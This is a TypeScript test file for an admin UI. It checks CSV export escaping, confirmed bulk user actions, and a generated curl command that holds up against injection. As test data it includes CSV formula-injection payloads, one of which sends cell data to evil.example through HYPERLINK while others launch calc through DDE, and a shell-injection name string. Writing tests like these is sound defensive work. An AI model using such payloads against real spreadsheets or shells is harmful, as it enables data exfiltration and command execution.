// Many users in the Admin UI: the CSV export with the attacks on spreadsheets, bulk acts, and the curl commands of forms.
import { deepEqual, equal, match, ok } from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readdir } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import { csvOf } from '../../src/admin/pages/exports.ts';
import { Agent, hiddenFields } from '../support/agent.ts';
import { ADMIN_TOKEN, PASSWORD, startApp, type TestApp } from '../support/app.ts';

let app: TestApp;
let admin: Agent;
let adminId: string;

before(async () => {
  app = await startApp();
  adminId = (await app.createUser('root-admin', { role: 'admin' })).id;
  admin = new Agent(app);
  const page = await admin.follow(await admin.get('/admin'));
  await admin.submit(page, { username: 'root-admin', password: PASSWORD });
});
after(() => app.stop());

test('attack: CSV formula injection by names and other user input', async () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '＝1+1',
    '|calc',
    '%0A=1',
  ];
  for (const formula of formulas) match(csvOf([[formula]]), /^"'/);
  equal(csvOf([['a,"b"\n=c']]), '"a,""b""\n\'=c"\r\n');
  equal(csvOf([['a\nb', 'a\rb', true, 7, ['x', 'y']]]), '"a\nb","a\rb",true,7,x y\r\n');
  equal(csvOf([['Grace Hopper', null, undefined, 'x']]), 'Grace Hopper,,,x\r\n');
  const [name = '', given = ''] = formulas;
  await app.createUser('formula', {
    name,
    given_name: given,
    family_name: '=1","=2',
    phone_number: '+1 202',
  });
  const answer = await admin.get('/admin/users/export?search=formula');
  equal(answer.status, 200);
  equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8');
  match(
    answer.headers.get('content-disposition') ?? '',
    /^attachment; filename="users-\d{4}-\d\d-\d\d\.csv"$/,
  );
  equal(answer.headers.get('x-content-type-options'), 'nosniff');
  equal(answer.headers.get('cache-control'), 'no-store');
  const cells = cellsOf(answer.body);
  equal(cells.length, 2);
  const row = Object.fromEntries((cells[0] ?? []).map((column, place) => [column, cells[1]?.[place]]));
  deepEqual(
    [row.username, row.name, row.given_name, row.family_name, row.phone_number, row.is_active],
    ['formula', `'${name}`, `'${given}`, `'=1","=2`, "'+1 202", 'true'],
  );
  for (const cell of cells.flat()) ok(!/^[=+\-@\t\r]/.test(cell), cell);
  // When it was changed may be told, and nothing of what it is.
  ok(!/password|hash|secret|argon2/i.test(answer.body.replace('password_changed_at', '')));
});

/** RFC 4180 §2, as a spreadsheet reads it. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  for (const line of csv.match(/(?:"(?:[^"]|"")*"|[^"\r\n])+\r\n/g) ?? []) {
    const cells = line.slice(0, -2).match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^,]*)/g) ?? [];
    rows.push(cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)));
  }
  return rows;
}

test('CSV export: every page of the list with its filters; refuses what the list refuses', async () => {
  const names = Array.from({ length: 30 }, (_, place) => `many-${String(place).padStart(2, '0')}`);
  for (const name of names) await app.createUser(name, { is_email_verified: false });
  const { body } = await admin.get(
    '/admin/users/export?search=many-&sort=username&order=asc&limit=5&offset=3',
  );
  deepEqual(
    cellsOf(body)
      .slice(1)
      .map(([, username]) => username),
    names,
  );
  const wrong = await admin.get('/admin/users/export?sort=password');
  equal(wrong.status, 400);
  equal(wrong.headers.get('content-disposition'), null);
  equal((await new Agent(app).get('/admin/users/export')).status, 303);
});

test('bulk act: confirmed with names and number, one by one, audited, never on oneself', async () => {
  const made = await Promise.all(['bulk-a', 'bulk-b', 'bulk-c'].map((name) => app.createUser(name)));
  const [a, b, c] = made.map(({ id }) => id);
  const csrf = hiddenFields((await admin.get('/admin/users?search=bulk-')).body).csrf ?? '';
  const ticked = {
    csrf,
    [`user.${a}`]: 'on',
    [`user.${b}`]: 'on',
    [`user.${adminId}`]: 'on',
    'user.none': 'on',
  };
  const asked = await admin.post('/admin/users/selected', { ...ticked, act: 'deactivate' });
  equal(asked.status, 200);
  match(asked.body, /Deactivate 2 users\?/);
  match(asked.body, /bulk-a[\s\S]*bulk-b/);
  ok(!asked.body.includes('bulk-c') && !asked.body.includes(`user.${adminId}`));
  const isActive = async (id = ''): Promise<unknown> =>
    (await app.admin('GET', `/users/${id}`)).body.data.is_active;
  equal(await isActive(a), true);
  // Each act is answered by a redirect, so that no reload repeats it.
  const confirm = async (act: string) =>
    admin.follow(await admin.post('/admin/users/selected/confirmed', { ...ticked, act }));
  const done = await confirm('deactivate');
  match(done.body, /2 users deactivated/);
  deepEqual(await Promise.all([a, b, c, adminId].map(isActive)), [false, false, true, true]);
  for (const id of [a, b]) {
    const { total } = (await app.admin('GET', `/audit?event=user.deactivated&target_id=${id}`)).body.data;
    equal(total, 1);
  }
  const again = await confirm('reactivate');
  match(again.body, /2 users reactivated/);
  equal(await isActive(a), true);

  const refused = { ...ticked, act: 'deactivate', csrf: 'x' };
  equal((await admin.post('/admin/users/selected/confirmed', refused)).status, 403);
  for (const wrong of [
    { csrf, act: 'deactivate' },
    { ...ticked, act: 'delete' },
    { ...ticked, act: '' },
  ]) {
    equal((await admin.post('/admin/users/selected/confirmed', wrong)).status, 400);
  }
  const crowd = Object.fromEntries(Array.from({ length: 201 }, (_, place) => [`user.${place}`, 'on']));
  match((await admin.post('/admin/users/selected', { csrf, act: 'sign-out', ...crowd })).body, /At most 200/);
  app.advance(601_000);
  const late = await admin.post('/admin/users/selected/confirmed', { ...ticked, act: 'deactivate' });
  equal(late.status, 303);
  equal(await isActive(a), true);
});

test('curl command of a form: does what the form would, whatever names contain', async () => {
  const hostile = `'; echo owned > owned; '$(echo owned)\`echo owned\` "\\`;
  const { id } = await app.createUser('shell', { name: hostile });
  const page = await admin.get(`/admin/users/${id}/edit`);
  const [, html = ''] = /<code id="api-call">([\s\S]*?)<\/code>/.exec(page.body) ?? [];
  const command = html
    .replace(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code)))
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
  match(command, /^curl 'http.*If-Match: "1"/s);
  // As the shell hands it over: every argument on its own, and nothing else happens.
  const shown = command.replace(/^curl /, "printf '%s\\0' ");
  const { stdout } = await promisify(execFile)('sh', ['-c', shown], {
    env: { ADMIN_TOKEN },
    cwd: app.dataDir,
  });
  const given = stdout.split('\0').slice(0, -1);
  deepEqual(given.slice(0, 3), [`${app.url}/admin/api/users/${id}`, '-X', 'PATCH']);
  const body = JSON.parse(given.at(-1) ?? '');
  equal(body.name, hostile);
  ok(!(await readdir(app.dataDir)).includes('owned'));
  const headers = given.filter((_, place) => given[place - 1] === '-H').map((line) => line.split(': '));
  const answer = await fetch(given[0] ?? '', {
    method: 'PATCH',
    headers: Object.fromEntries(headers),
    body: JSON.stringify({ ...body, nickname: 'by shell' }),
  });
  equal(answer.status, 200);
  equal((await app.admin('GET', `/users/${id}`)).body.data.nickname, 'by shell');
});
